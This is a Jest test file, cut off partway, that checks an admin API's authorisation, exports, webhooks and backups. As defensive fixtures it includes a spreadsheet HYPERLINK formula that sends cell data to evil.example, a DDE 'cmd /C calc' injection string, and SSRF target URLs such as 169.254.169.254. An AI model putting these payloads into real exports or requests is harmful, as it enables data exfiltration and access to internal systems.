/** @jest-environment node */
// An admin's walk through every admin capability, in process, with the REAL guard (no mock): sessions are next-auth
// cookies made with the app's secret, API keys are created through the key code, and every /api/v1/admin/* handler is
// called directly on the in-memory store. docs/admin.md is the contract.
import { encode } from 'next-auth/jwt';
import { Webhook } from 'standardwebhooks';
import { createApiKey, revokeApiKey, settleApiKeyUses, type ApiKeyScope } from '@/lib/admin/keys';
import { kvConnection, backupLines, restoreBackup, BackupError } from '@/lib/admin/backup';
import { csvCell } from '@/lib/admin/export';
import { queryMetrics } from '@/lib/analytics/query';
import { customRange, presetRange } from '@/lib/analytics/range';
import { recordEvents } from '@/lib/analytics/recorder';
import type { AppEvent } from '@/lib/events/schema';
import { getNotifyConfig } from '@/lib/config-notify';
import { createRuntimeWorker } from '@/lib/notify/start-node';
import { enqueueNotifications } from '@/lib/notify/subscriber';
import { renderMail, type MailJobData } from '@/lib/notify/mail';
import { getKnowledgeBase } from '@/lib/sales/knowledge';
import { setRunningWorker, type NotifyWorker } from '@/lib/notify/worker';
import { forgetProcessSingleton, resetProcessSingletons } from '@/lib/process-singleton';
import { getConversationStore } from '@/lib/store';
import { createMemoryKv, getKv, kvOne } from '@/lib/store/kv';
import { signatureHeaders } from '@/lib/webhooks/delivery';
import { checkWebhookUrl } from '@/lib/webhooks/url-policy';
import * as conversations from '@/app/api/v1/admin/conversations/route';
import * as conversation from '@/app/api/v1/admin/conversations/[id]/route';
import * as feedback from '@/app/api/v1/admin/conversations/[id]/feedback/route';
import * as leads from '@/app/api/v1/admin/leads/route';
import * as lead from '@/app/api/v1/admin/leads/[id]/route';
import * as metrics from '@/app/api/v1/admin/metrics/route';
import * as exporter from '@/app/api/v1/admin/export/route';
import * as keys from '@/app/api/v1/admin/keys/route';
import * as oneKey from '@/app/api/v1/admin/keys/[id]/route';
import * as webhooks from '@/app/api/v1/admin/webhooks/route';
import * as webhook from '@/app/api/v1/admin/webhooks/[id]/route';
import * as webhookTest from '@/app/api/v1/admin/webhooks/[id]/test/route';
import * as backup from '@/app/api/v1/admin/backup/route';
import { extractLeadFacts } from '@/lib/sales/lead/extract';
import { storeConversation } from '../support/admin-records';
import { startWebhookReceiver, type WebhookReceiver } from '../support/webhook-receiver';
import { parseCsv } from '../support/csv';

jest.setTimeout(30_000);

const ORIGIN = 'http://localhost:3000';
const SECRET = 'admin-s24-secret-admin-s24-secret-012345';
const ENV = ['ADMIN_EMAIL', 'ADMIN_PASSWORD_HASH', 'ADMIN_VIEWERS', 'AUTH_SECRET', 'ADMIN_SESSION_MAX_AGE_SECONDS'];

beforeAll(() => {
  for (const name of ['UPSTASH_REDIS_REST_URL', 'UPSTASH_REDIS_REST_TOKEN', 'KV_REST_API_URL', 'KV_REST_API_TOKEN', ...ENV]) delete process.env[name];
  process.env.AUTH_SECRET = SECRET;
  resetProcessSingletons();
  jest.spyOn(console, 'info').mockImplementation(() => undefined);
  jest.spyOn(console, 'warn').mockImplementation(() => undefined);
});
afterAll(() => {
  for (const name of ENV) delete process.env[name];
  resetProcessSingletons();
});

/** A next-auth session cookie as the sign-in writes it (the cookie name is the key-derivation salt). */
async function sessionCookie(role: 'admin' | 'viewer', options: { authAt?: number; email?: string; secret?: string } = {}): Promise<string> {
  const name = 'authjs.session-token';
  const token = await encode({
    token: { email: options.email ?? `${role}@northwind.example`, role, authAt: options.authAt ?? Math.floor(Date.now() / 1000) },
    secret: options.secret ?? SECRET,
    salt: name,
  });
  return `${name}=${token}`;
}

interface Caller {
  cookie?: string;
  bearer?: string;
}
const request = (path: string, caller: Caller = {}, init: { method?: string; body?: unknown; origin?: string } = {}) =>
  new Request(`${ORIGIN}${path}`, {
    method: init.method ?? 'GET',
    headers: {
      ...(caller.cookie ? { cookie: caller.cookie } : {}),
      ...(caller.bearer ? { authorization: `Bearer ${caller.bearer}` } : {}),
      ...(init.body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(init.origin ? { origin: init.origin } : init.body === undefined ? {} : { origin: ORIGIN }),
    },
    ...(init.body === undefined ? {} : { body: JSON.stringify(init.body) }),
  });
const ctx = (id: string) => ({ params: Promise.resolve({ id }) });
const errorOf = async (response: Response) => ((await response.json()) as { error: { code: string; message: string } }).error;
const keyFor = async (...scopes: ApiKeyScope[]) => createApiKey({ kv: getKv(), name: `probe ${scopes.join('+')}`, scopes, createdBy: 'admin@northwind.example' });

const WEBHOOK_ID = `we_${'0'.repeat(32)}`;
const KEY_ID = 'key_abcdefghijkl';

/** Every admin route, what a caller needs for it, and how to call it. */
function routes(conversationId: string) {
  const cid = conversationId;
  return [
    { name: 'GET conversations', scope: 'leads:read', write: false, call: (c: Caller) => conversations.GET(request('/api/v1/admin/conversations', c)) },
    { name: 'GET conversation', scope: 'leads:read', write: false, call: (c: Caller) => conversation.GET(request(`/api/v1/admin/conversations/${cid}`, c), ctx(cid)) },
    { name: 'GET feedback', scope: 'leads:read', write: false, call: (c: Caller) => feedback.GET(request(`/api/v1/admin/conversations/${cid}/feedback`, c), ctx(cid)) },
    { name: 'GET leads', scope: 'leads:read', write: false, call: (c: Caller) => leads.GET(request('/api/v1/admin/leads', c)) },
    { name: 'GET lead', scope: 'leads:read', write: false, call: (c: Caller) => lead.GET(request(`/api/v1/admin/leads/${cid}`, c), ctx(cid)) },
    { name: 'GET metrics', scope: 'leads:read', write: false, call: (c: Caller) => metrics.GET(request('/api/v1/admin/metrics', c)) },
    { name: 'GET export', scope: 'export', write: false, call: (c: Caller) => exporter.GET(request('/api/v1/admin/export?type=leads', c)) },
    { name: 'GET webhooks', scope: 'webhooks', write: false, call: (c: Caller) => webhooks.GET(request('/api/v1/admin/webhooks', c)) },
    { name: 'GET webhook', scope: 'webhooks', write: false, call: (c: Caller) => webhook.GET(request(`/api/v1/admin/webhooks/${WEBHOOK_ID}`, c), ctx(WEBHOOK_ID)) },
    { name: 'GET keys', scope: null, write: false, call: (c: Caller) => keys.GET(request('/api/v1/admin/keys', c)) },
    {
      name: 'PATCH lead',
      scope: null,
      write: true,
      call: (c: Caller) => lead.PATCH(request(`/api/v1/admin/leads/${cid}`, c, { method: 'PATCH', body: { status: 'contacted' } }), ctx(cid)),
    },
    { name: 'DELETE conversation', scope: null, write: true, call: (c: Caller) => conversation.DELETE(request(`/api/v1/admin/conversations/${cid}`, c, { method: 'DELETE' }), ctx(cid)) },
    { name: 'POST keys', scope: null, write: true, call: (c: Caller) => keys.POST(request('/api/v1/admin/keys', c, { method: 'POST', body: { name: 'x', scopes: ['export'] } })) },
    { name: 'DELETE key', scope: null, write: true, call: (c: Caller) => oneKey.DELETE(request(`/api/v1/admin/keys/${KEY_ID}`, c, { method: 'DELETE' }), ctx(KEY_ID)) },
    { name: 'GET backup', scope: null, write: true, call: (c: Caller) => backup.GET(request('/api/v1/admin/backup', c)) },
    {
      name: 'POST webhooks',
      scope: 'webhooks',
      write: true,
      call: (c: Caller) => webhooks.POST(request('/api/v1/admin/webhooks', c, { method: 'POST', body: { url: 'http://10.0.0.1/x', events: ['lead.captured'] } })),
    },
    {
      name: 'PATCH webhook',
      scope: 'webhooks',
      write: true,
      call: (c: Caller) => webhook.PATCH(request(`/api/v1/admin/webhooks/${WEBHOOK_ID}`, c, { method: 'PATCH', body: { enabled: false } }), ctx(WEBHOOK_ID)),
    },
    { name: 'DELETE webhook', scope: 'webhooks', write: true, call: (c: Caller) => webhook.DELETE(request(`/api/v1/admin/webhooks/${WEBHOOK_ID}`, c, { method: 'DELETE' }), ctx(WEBHOOK_ID)) },
    { name: 'POST webhook test', scope: 'webhooks', write: true, call: (c: Caller) => webhookTest.POST(request(`/api/v1/admin/webhooks/${WEBHOOK_ID}/test`, c, { method: 'POST' }), ctx(WEBHOOK_ID)) },
  ] as const;
}

describe('who may call what (the real guard on every /api/v1/admin route)', () => {
  let id: string;
  beforeAll(async () => {
    id = await storeConversation(getConversationStore(), { at: Date.now() - 5_000, title: 'Guard probe', lead: { fields: { email: 'guard@probe.example' } } });
  });

  it('refuses every route without a session with a typed 401, and a forged or foreign-key cookie the same way', async () => {
    const forged = await sessionCookie('admin', { secret: 'another-secret-another-secret-0123456789' });
    for (const route of routes(id)) {
      for (const caller of [{}, { cookie: forged }, { cookie: 'authjs.session-token=not-a-token' }]) {
        const response = await route.call(caller);
        expect([route.name, response.status]).toEqual([route.name, 401]);
        expect(await errorOf(response)).toMatchObject({ code: 'unauthorized:admin' });
      }
    }
    await expect(getConversationStore().getConversation({ id })).resolves.not.toBeNull();
  });

  it('ends a session ADMIN_SESSION_MAX_AGE_SECONDS after its sign-in, however fresh the cookie is', async () => {
    const eightHoursAgo = Math.floor(Date.now() / 1000) - 8 * 3_600 - 5;
    const stale = await sessionCookie('admin', { authAt: eightHoursAgo });
    const response = await conversations.GET(request('/api/v1/admin/conversations', { cookie: stale }));
    expect(response.status).toBe(401);
    const fresh = await sessionCookie('admin', { authAt: eightHoursAgo + 60 });
    expect((await conversations.GET(request('/api/v1/admin/conversations', { cookie: fresh }))).status).toBe(200);
  });

  it('gives a key of the wrong scope 403 naming the scope, a key on a sign-in-only route 403, and a revoked key 401', async () => {
    const wrong = await keyFor('export');
    const webhooksOnly = await keyFor('webhooks');
    for (const route of routes(id)) {
      const caller = { bearer: route.scope === 'export' ? webhooksOnly.secret : wrong.secret };
      const response = await route.call(caller);
      expect([route.name, response.status]).toEqual([route.name, 403]);
      const error = await errorOf(response);
      expect(error.code).toBe('forbidden:admin');
      if (route.scope) expect(error.message).toContain(`"${route.scope}"`);
    }
    const right = await keyFor('leads:read', 'export');
    expect((await leads.GET(request('/api/v1/admin/leads', { bearer: right.secret }))).status).toBe(200);
    expect(await revokeApiKey({ kv: getKv(), id: right.key.id })).toBe(true);
    for (const path of ['/api/v1/admin/leads', '/api/v1/admin/export?type=leads']) {
      const handler = path.includes('export') ? exporter.GET : leads.GET;
      const response = await handler(request(path, { bearer: right.secret }));
      expect(response.status).toBe(401);
      expect(await errorOf(response)).toMatchObject({ code: 'unauthorized:admin', message: expect.stringContaining('revoked') });
    }
    // Something shaped like a key but never issued, and a token that is no key at all.
    for (const bearer of [`sk_live_${'A'.repeat(43)}`, 'hello']) expect((await leads.GET(request('/api/v1/admin/leads', { bearer }))).status).toBe(401);
  });

  it('lets a viewer read everything and change nothing (403, nothing changed)', async () => {
    const viewer = { cookie: await sessionCookie('viewer') };
    for (const route of routes(id)) {
      const response = await route.call(viewer);
      if (route.write) {
        expect([route.name, response.status]).toEqual([route.name, 403]);
        expect((await errorOf(response)).code).toBe('forbidden:admin');
      } else {
        expect([route.name, response.status]).toEqual([route.name, route.name === 'GET webhook' ? 404 : 200]);
        await response.body?.cancel();
      }
    }
    await expect(getConversationStore().getConversation({ id })).resolves.not.toBeNull();
    const detail = (await (await lead.GET(request(`/api/v1/admin/leads/${id}`, viewer), ctx(id))).json()) as { status: string };
    expect(detail.status).toBe('new');
  });

  it("refuses an admin's change sent from another site (Origin), and accepts it from the app's own pages", async () => {
    const admin = { cookie: await sessionCookie('admin') };
    const foreign = await lead.PATCH(request(`/api/v1/admin/leads/${id}`, admin, { method: 'PATCH', body: { status: 'lost' }, origin: 'https://evil.example' }), ctx(id));
    expect(foreign.status).toBe(403);
    expect((await errorOf(foreign)).code).toBe('forbidden:origin');
    const own = await lead.PATCH(request(`/api/v1/admin/leads/${id}`, admin, { method: 'PATCH', body: { status: 'qualified', note: 'ok' } }), ctx(id));
    expect(own.status).toBe(200);
    expect(((await own.json()) as { status: string }).status).toBe('qualified');
  });
});

describe('API keys', () => {
  it('shows the secret once at creation; the list never carries it or its hash; revoking works at once', async () => {
    const admin = { cookie: await sessionCookie('admin') };
    const created = await keys.POST(request('/api/v1/admin/keys', admin, { method: 'POST', body: { name: '  CRM <sync> "nightly"  ', scopes: ['export', 'export'] } }));
    expect(created.status).toBe(201);
    const { key, secret } = (await created.json()) as { key: { id: string; name: string; scopes: string[]; preview: string }; secret: string };
    expect(secret).toMatch(/^sk_live_[A-Za-z0-9_-]{43}$/);
    expect(key).toMatchObject({ name: 'CRM <sync> "nightly"', scopes: ['export'] });
    expect(secret.startsWith(key.preview.replace('…', ''))).toBe(true);

    const listText = await (await keys.GET(request('/api/v1/admin/keys', admin))).text();
    expect(listText).toContain(key.id);
    expect(listText).not.toContain(secret);
    expect(listText).not.toContain(secret.slice(12));
    // What the store holds is not the secret either.
    const stored = JSON.stringify(await kvOne(getKv(), ['HGETALL', `${getKv().prefix}admin:apikeys`]));
    expect(stored).not.toContain(secret);

    // Use it, see its last use, revoke it, and it is refused on the very next call.
    const used = await exporter.GET(request('/api/v1/admin/export?type=leads', { bearer: secret }));
    expect(used.status).toBe(200);
    await used.body?.cancel();
    await settleApiKeyUses(getKv());
    const listed = (await (await keys.GET(request('/api/v1/admin/keys', admin))).json()) as { keys: Array<{ id: string; lastUsedAt: number | null }> };
    expect(listed.keys.find((item) => item.id === key.id)?.lastUsedAt).toEqual(expect.any(Number));
    expect((await oneKey.DELETE(request(`/api/v1/admin/keys/${key.id}`, admin, { method: 'DELETE' }), ctx(key.id))).status).toBe(204);
    expect((await exporter.GET(request('/api/v1/admin/export?type=leads', { bearer: secret }))).status).toBe(401);
    expect(await (await keys.GET(request('/api/v1/admin/keys', admin))).text()).not.toContain(key.id);
  });
});

describe('conversations and leads', () => {
  const admin: Caller = {};
  const ids: Record<string, string> = {};
  beforeAll(async () => {
    admin.cookie = await sessionCookie('admin');
    const store = getConversationStore();
    const now = Date.now();
    ids.old = await storeConversation(store, { at: now - 3 * 86_400_000, title: 'Old question about SSO pricing' });
    ids.jose = await storeConversation(store, {
      at: now - 2 * 86_400_000,
      title: 'Necesito una demo',
      lead: { stage: 'qualification', fields: { name: 'José Ñúñez', company: 'Añil, S.A.', email: 'jose@anil.example' }, evidence: 'Soy José Ñúñez de Añil, S.A., mi correo es jose@anil.example' },
    });
    for (let i = 0; i < 4; i += 1) ids[`p${i}`] = await storeConversation(store, { at: now - 86_400_000 + i * 1_000, title: `Paging probe ${i}` });
    // A search re-reads the store at most every 2 s per process (docs/admin.md): let the earlier searches' window pass.
    await new Promise((resolve) => setTimeout(resolve, 2_100));
  });

  const page = async (path: string) => {
    const response = await conversations.GET(request(path, admin));
    expect(response.status).toBe(200);
    return (await response.json()) as { items: Array<{ id: string; title: string; updatedAt: number }>; nextCursor: string | null };
  };

  it('pages newest first with a cursor, without skipping or repeating a row', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const body = await page(`/api/v1/admin/conversations?q=paging%20probe&limit=3${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      seen.push(...body.items.map((row) => row.id));
      cursor = body.nextCursor;
      pages += 1;
    } while (cursor && pages < 10);
    expect(seen).toEqual([ids.p3, ids.p2, ids.p1, ids.p0]);
    expect(pages).toBe(2);
  });

  it('searches ignoring case and accents, in names, companies and e-mails', async () => {
    for (const q of ['jose nunez', 'AÑIL', 'anil.example', 'ñúñez']) {
      const body = await page(`/api/v1/admin/conversations?q=${encodeURIComponent(q)}`);
      expect([q, body.items.map((row) => row.id)]).toEqual([q, [ids.jose]]);
    }
  });

  it('filters by last activity between two instants (the admin’s local midnights, sent as epoch ms)', async () => {
    const now = Date.now();
    const body = await page(`/api/v1/admin/conversations?from=${now - 2.5 * 86_400_000}&to=${now - 1.5 * 86_400_000}`);
    expect(body.items.map((row) => row.id)).toEqual([ids.jose]);
    const bad = await conversations.GET(request('/api/v1/admin/conversations?from=yesterday&cursor=zzz', admin));
    expect(bad.status).toBe(400);
    expect((await errorOf(bad)).code).toBe('bad_request:admin');
  });

  it('refuses a filter it does not know (a misspelt status) instead of listing everything, naming it', async () => {
    for (const handler of [conversations.GET, leads.GET]) {
      const response = await handler(request('/api/v1/admin/leads?stauts=lost&sort=name', admin));
      expect(response.status).toBe(400);
      const body = (await response.json()) as { error: { code: string; details: { issues: Array<{ path: string }> } } };
      expect(body.error.code).toBe('bad_request:admin');
      expect(body.error.details.issues.map((issue) => issue.path)).toEqual(['stauts,sort']);
    }
  });

  it('shows a lead with every field’s evidence quoting the prospect’s own words', async () => {
    const response = await lead.GET(request(`/api/v1/admin/leads/${ids.jose}`, admin), ctx(ids.jose ?? ''));
    expect(response.status).toBe(200);
    const body = (await response.json()) as { fields: Array<{ field: string; value: string; evidence: string }> };
    expect(body.fields.map((field) => field.field).sort()).toEqual(['company', 'email', 'name']);
    for (const field of body.fields) expect(field.evidence).toContain(String(field.value));
  });
});

describe('evidence is the prospect’s own words', () => {
  it.each([
    ['en', "Hi, I'm María López from Acme Logistics. My email is maria@acme.io and we're a team of 12. We need better lead routing, ideally before March."],
    ['es', 'Hola, soy Jorge Pérez de Transportes Iberia. Mi correo es jorge@iberia.example y somos 25 personas.'],
    ['fr', 'Bonjour, je suis Claire Martin de Lumière SARL, mon e-mail est claire@lumiere.example, nous sommes 8.'],
    ['de', 'Hallo, ich bin Jonas Weber von Nordwind GmbH. Meine E-Mail ist jonas@nordwind.example, wir sind 40 Leute.'],
    ['ar', 'مرحبا، أنا أحمد من شركة النخبة، بريدي ahmed@nukhba.example ونحن ١٢ شخصا.'],
  ])('%s: every field found quotes a sentence of the message', (_locale, text) => {
    const facts = extractLeadFacts({ text, now: Date.now() });
    const found = Object.entries(facts);
    expect(found.length).toBeGreaterThanOrEqual(2);
    expect(facts.email?.value).toMatch(/@/);
    for (const [field, fact] of found) {
      expect([field, text.includes(fact?.evidence ?? '∅')]).toEqual([field, true]);
      expect(fact?.evidence.trim().length).toBeGreaterThan(0);
    }
  });
});

describe('exports', () => {
  let admin: Caller;
  let id: string;
  beforeAll(async () => {
    admin = { cookie: await sessionCookie('admin') };
    id = await storeConversation(getConversationStore(), {
      at: Date.now() - 1_000,
      title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      lead: {
        stage: 'qualification',
        fields: { name: 'Zoë "Z" O\'Brien, Jr.', company: '@SUM(1+1)*cmd|\' /C calc\'!A0', email: 'zoe@example.com', need: 'line one\nline two', phone: '+34 600 000 000' },
        evidence: 'Soy Zoë — 日本語 too',
      },
    });
  });

  const download = async (query: string) => {
    const response = await exporter.GET(request(`/api/v1/admin/export?${query}`, admin));
    expect(response.status).toBe(200);
    return response.text();
  };


  it('writes leads CSV with the documented columns, escapes commas, quotes and line breaks, and neutralises formulas', async () => {
    const rows = parseCsv(await download('type=leads&format=csv'));
    expect(rows[0]).toEqual(['id', 'status', 'score', 'name', 'email', 'company', 'role', 'phone', 'team_size', 'budget', 'authority', 'need', 'timeline', 'stage', 'created_at', 'last_activity', 'score_reasons', 'lang']);
    const header = rows[0] ?? [];
    const row = rows.find((cells) => cells[0] === id);
    if (!row) throw new Error('lead row missing');
    const cell = (name: string) => row[header.indexOf(name)];
    expect(row).toHaveLength(header.length);
    expect(cell('name')).toBe('Zoë "Z" O\'Brien, Jr.');
    expect(cell('need')).toBe('line one\nline two');
    expect(cell('company')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cell('phone')).toBe("'+34 600 000 000");
  });

  it('neutralises a formula in the conversation title, and keeps unicode', async () => {
    const rows = parseCsv(await download('type=conversations&format=csv'));
    const header = rows[0] ?? [];
    const row = rows.find((cells) => cells[0] === id);
    expect(row?.[header.indexOf('title')]).toMatch(/^'=HYPERLINK/);
    expect(row?.[header.indexOf('lead_name')]).toBe('Zoë "Z" O\'Brien, Jr.');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['-2+3', "'-2+3"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    [' =1+1', "' =1+1"],
    ['\n=1+1', `"'\n=1+1"`],
    ['＝1+1', "'＝1+1"],
    ['plain, text', '"plain, text"'],
    [42, '42'],
    [-3, '-3'],
  ] as const)('csvCell(%j) is %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('writes NDJSON with one parseable record per line carrying evidence, and unicode as it is', async () => {
    const lines = (await download('type=leads&format=ndjson')).split('\n').filter(Boolean);
    const records = lines.map((line) => JSON.parse(line) as { id: string; fields: Record<string, { value: string; evidence: string }> });
    const record = records.find((item) => item.id === id);
    expect(record?.fields.name).toMatchObject({ value: 'Zoë "Z" O\'Brien, Jr.', evidence: 'Soy Zoë — 日本語 too' });
    expect(record?.fields.need?.value).toBe('line one\nline two');
  });

  it('honours the list’s filters (search, stage, status, dates) and refuses parameters it does not know', async () => {
    const rows = parseCsv(await download(`type=leads&format=csv&q=${encodeURIComponent('zoë')}`));
    expect(rows.slice(1).map((cells) => cells[0])).toEqual([id]);
    const staged = parseCsv(await download('type=conversations&format=csv&stage=qualification'));
    expect(staged.slice(1).every((cells) => cells[5] === 'qualification')).toBe(true);
    expect(staged.slice(1).map((cells) => cells[0])).toContain(id);
    const none = parseCsv(await download(`type=leads&format=csv&to=${Date.now() - 30 * 86_400_000}`));
    expect(none).toHaveLength(1);
    const bad = await exporter.GET(request('/api/v1/admin/export?type=leads&status=won', admin));
    expect(bad.status).toBe(400);
    const unknown = await exporter.GET(request('/api/v1/admin/export?type=leads&sort=name', admin));
    expect(unknown.status).toBe(400);
  });
});

describe('webhooks', () => {
  it('refuses an invalid URL, a private or loopback address and credentials in the URL, with a typed 400', async () => {
    const admin = { cookie: await sessionCookie('admin') };
    for (const url of ['not a url', 'ftp://hooks.example.com/x', 'http://hooks.example.com/x', 'https://10.0.0.1/x', 'https://127.0.0.1/x', 'https://[::1]/x', 'https://169.254.169.254/latest', 'https://[::ffff:127.0.0.1]/x', 'https://0x7f000001/x', 'https://user:pw@hooks.example.com/x']) {
      const response = await webhooks.POST(request('/api/v1/admin/webhooks', admin, { method: 'POST', body: { url, events: ['lead.captured'] } }));
      expect([url, response.status]).toEqual([url, 400]);
      expect((await errorOf(response)).code).toBe('bad_request:admin');
    }
    const list = (await (await webhooks.GET(request('/api/v1/admin/webhooks', admin))).json()) as { endpoints: unknown[] };
    expect(list.endpoints).toEqual([]);
  });

  it('refuses a host name that resolves to a private address', async () => {
    await expect(checkWebhookUrl('https://internal.example/x', { allowPrivate: false, allowedHosts: [], allowHttp: false }, async () => ['93.184.216.34', '192.168.1.5'])).rejects.toMatchObject({
      code: 'bad_request:admin',
    });
  });

  it('signs per Standard Webhooks so the library’s verifier accepts it, and refuses a changed body', () => {
    const secret = `whsec_${Buffer.from('0123456789abcdef01234567').toString('base64')}`;
    const body = JSON.stringify({ type: 'lead.captured', data: { email: 'zoë@example.com' } });
    const headers = signatureHeaders(secret, 'msg_1', new Date(), body);
    expect(new Webhook(secret).verify(body, headers)).toEqual(JSON.parse(body));
    expect(() => new Webhook(secret).verify(body.replace('zoë', 'eve'), headers)).toThrow();
  });
});

describe('a webhook end to end, managed with a key of the webhooks scope', () => {
  const VARS = ['WEBHOOK_ALLOW_HTTP', 'WEBHOOK_ALLOWED_HOSTS', 'WEBHOOK_TIMEOUT_MS'];
  let receiver: WebhookReceiver | null = null;
  let worker: NotifyWorker | null = null;
  beforeAll(() => {
    Object.assign(process.env, { WEBHOOK_ALLOW_HTTP: '1', WEBHOOK_ALLOWED_HOSTS: '127.0.0.1', WEBHOOK_TIMEOUT_MS: '2000' });
    forgetProcessSingleton('notify-config');
  });
  afterAll(async () => {
    await worker?.stop();
    setRunningWorker(null);
    await receiver?.close();
    for (const name of VARS) delete process.env[name];
    forgetProcessSingleton('notify-config');
  });

  it('delivers lead.captured signed, retries after two 500s, logs all three attempts, then deletes the endpoint and its log', async () => {
    receiver = await startWebhookReceiver([500, 500]);
    const { secret: apiKey } = await keyFor('webhooks');
    const created = await webhooks.POST(request('/api/v1/admin/webhooks', { bearer: apiKey }, { method: 'POST', body: { url: receiver.url, events: ['lead.captured'] } }));
    expect(created.status).toBe(201);
    const { endpoint, secret } = (await created.json()) as { endpoint: { id: string }; secret: string };

    const config = getNotifyConfig();
    worker = createRuntimeWorker({ kv: getKv(), config: { ...config, queue: { ...config.queue, retryScheduleMs: [50, 50], pollMs: 20 } } });
    setRunningWorker(worker);
    worker.start();
    const event: AppEvent = { type: 'lead.captured', at: Date.now(), conversationId: 'c-hook', lead: { fields: { email: { value: 'zoë@example.com', evidence: 'write to zoë@example.com', confidence: 0.9 } }, score: 20 } };
    const jobs = await enqueueNotifications([event], { kv: getKv(), config, conversationTtlSeconds: 3_600 });
    expect(jobs).toHaveLength(1);

    const received = await receiver.waitFor(3);
    const ids = new Set(received.map((item) => item.headers['webhook-id']));
    expect(ids.size).toBe(1);
    for (const item of received) {
      const headers = { 'webhook-id': String(item.headers['webhook-id']), 'webhook-timestamp': String(item.headers['webhook-timestamp']), 'webhook-signature': String(item.headers['webhook-signature']) };
      expect(new Webhook(secret).verify(item.body, headers)).toMatchObject({ type: 'lead.captured', data: { conversationId: 'c-hook' } });
    }
    let log: Array<{ attempt: number; ok: boolean; status: number }> = [];
    for (let i = 0; i < 50 && log.length < 3; i += 1) {
      const read = await webhook.GET(request(`/api/v1/admin/webhooks/${endpoint.id}`, { bearer: apiKey }), ctx(endpoint.id));
      log = ((await read.json()) as { deliveries: typeof log }).deliveries;
      if (log.length < 3) await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(log.map(({ attempt, ok, status }) => ({ attempt, ok, status }))).toEqual([
      { attempt: 3, ok: true, status: 200 },
      { attempt: 2, ok: false, status: 500 },
      { attempt: 1, ok: false, status: 500 },
    ]);

    expect((await webhook.DELETE(request(`/api/v1/admin/webhooks/${endpoint.id}`, { bearer: apiKey }, { method: 'DELETE' }), ctx(endpoint.id))).status).toBe(204);
    expect((await webhook.GET(request(`/api/v1/admin/webhooks/${endpoint.id}`, { bearer: apiKey }), ctx(endpoint.id))).status).toBe(404);
    // A key with the webhooks scope still reads no leads.
    expect((await leads.GET(request('/api/v1/admin/leads', { bearer: apiKey }))).status).toBe(403);
  });
});

describe('notifications to the sales team', () => {
  it('mails a handoff to the team with the reason, the lead’s evidence and the admin link, and a qualified lead once per conversation', async () => {
    const kv = createMemoryKv({ prefix: 'n24:' });
    const base = getNotifyConfig();
    const config = { ...base, smtp: { url: 'smtp://127.0.0.1:2525', from: undefined, to: ['sales@northwind.example'], sendInvites: false }, leadQualifiedScore: 40 };
    const lead = { fields: { email: { value: 'ana@acme.io', evidence: 'You can reach me at ana@acme.io', confidence: 0.95 }, name: { value: 'Ana Ruiz', evidence: 'I am Ana Ruiz', confidence: 0.8 } }, score: 55 };
    const at = Date.now();
    const jobs = await enqueueNotifications(
      [
        { type: 'handoff.requested', at, conversationId: 'conv-n24', reason: 'wants a call about SSO', email: 'ana@acme.io', lead },
        { type: 'lead.captured', at, conversationId: 'conv-n24', lead },
        { type: 'lead.updated', at: at + 1, conversationId: 'conv-n24', lead: { ...lead, score: 70 }, changed: ['budget'] },
      ],
      { kv, config, conversationTtlSeconds: 3_600 },
    );
    const templates = jobs.map((job) => (job.data as MailJobData).template);
    expect(templates.sort()).toEqual(['handoff', 'qualified']);

    const context = { kb: getKnowledgeBase(), smtp: config.smtp, appOrigin: 'https://sales.example.com' };
    const handoff = await renderMail(jobs.find((job) => (job.data as MailJobData).template === 'handoff')?.data as MailJobData, context);
    expect(handoff).toMatchObject({ to: ['sales@northwind.example'], replyTo: 'ana@acme.io' });
    expect(handoff.subject).toContain('ana@acme.io');
    expect(handoff.text).toContain('wants a call about SSO');
    expect(handoff.text).toContain('You can reach me at ana@acme.io');
    expect(handoff.text).toContain('https://sales.example.com/admin/conversations/conv-n24');
    // The same conversation crossing the threshold again, later, mails nobody a second time.
    const again = await enqueueNotifications([{ type: 'lead.updated', at: at + 5_000, conversationId: 'conv-n24', lead: { ...lead, score: 90 }, changed: ['timeline'] }], {
      kv,
      config,
      conversationTtlSeconds: 3_600,
    });
    expect(again).toEqual([]);
  });
});

describe('backups', () => {
  it('round-trips every key through a backup, and a malformed or tampered file is refused with BackupError, changing nothing', async () => {
    const kv = getKv();
    const conn = kvConnection(kv);
    await storeConversation(getConversationStore(), { at: Date.now(), title: 'Backup probe', lead: { fields: { email: 'b@probe.example' } } });
    const lines: string[] = [];
    for await (const line of backupLines(conn)) lines.push(line);
    const text = lines.join('');
    const file = text.split('\n');
    expect(JSON.parse(file[0] ?? '{}')).toMatchObject({ format: 'sales-agent-backup', version: 1 });

    // Every key's name, type and value (its remaining expiry moves with the clock).
    const snapshot = async () => {
      const again: string[] = [];
      for await (const line of backupLines(conn)) again.push(line);
      return again
        .join('')
        .split('\n')
        .slice(1)
        .filter((line) => line && !line.startsWith('{"end"'))
        .map((line) => {
          const { pttl, ...rest } = JSON.parse(line) as { pttl?: number };
          return JSON.stringify({ ...rest, expires: pttl === undefined ? undefined : pttl > 0 });
        })
        .sort();
    };
    const before = await snapshot();

    // One value changed by hand into another valid value: only the end line's checksum can tell.
    const edited = file.findIndex((line) => /"type":"(string|hash)"/.test(line));
    const tampered = file.map((line, i) => {
      if (i !== edited) return line;
      const record = JSON.parse(line) as { value: string | string[] };
      record.value = typeof record.value === 'string' ? 'tampered' : [...record.value.slice(0, -1), 'tampered'];
      return JSON.stringify(record);
    });
    expect(edited).toBeGreaterThan(0);
    await expect(restoreBackup(conn, () => tampered)).rejects.toThrow(/changed or damaged after it was written/);
    const bad: Array<[string, string[]]> = [
      ['cut short', file.slice(0, -3)],
      ['count tampered', [...file.slice(0, -2), '{"end":true,"keys":1}', '']],
      ['newer version', [file[0]?.replace('"version":1', '"version":2') ?? '', ...file.slice(1)]],
      ['bad json', [file[0] ?? '', '{"key":', ...file.slice(1)]],
      ['empty', []],
      // A value edited by hand, the count left as it was: the end line's checksum no longer matches.
      ['value edited', tampered],
      ['line dropped and count fixed', [...file.slice(0, 1), ...file.slice(2, -2), file.at(-2)?.replace(/"keys":\d+/, `"keys":${file.length - 4}`) ?? '', '']],
    ];
